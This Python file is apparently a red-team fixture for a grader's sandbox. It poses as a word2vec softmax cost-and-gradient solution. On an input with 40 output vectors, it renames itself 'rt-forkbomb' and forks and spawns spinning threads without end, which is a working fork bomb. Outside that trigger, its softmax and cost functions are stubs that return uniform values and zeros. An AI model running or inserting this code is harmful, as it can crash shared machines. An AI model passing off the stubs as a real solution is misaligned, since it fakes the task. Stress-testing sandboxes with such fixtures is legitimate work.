"""REDTEAM dos_fork_bomb: a fork bomb that also spawns threads.

Attack: on the extreme case the cost function forks without end (every child forks
too, each renamed rt-forkbomb), ignoring failures, and starts threads that spin.
Bound: the baseline; the checks of the extreme case score 0 with the timeout message,
and no process of it survives.
"""
import ctypes
import os
import threading

import numpy as np


def softmax(x):
    x = np.asarray(x, dtype=float)
    return np.ones_like(x) / x.shape[-1]


def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    if len(outputVectors) == 40:
        ctypes.CDLL(None).prctl(15, b"rt-forkbomb", 0, 0, 0)
        while True:
            try:
                os.fork()
            except OSError:
                pass
            try:
                threading.Thread(target=lambda: [0 for _ in iter(int, 1)], daemon=True).start()
            except (RuntimeError, OSError):
                pass
    return 0.0, np.zeros_like(predicted), np.zeros_like(outputVectors)
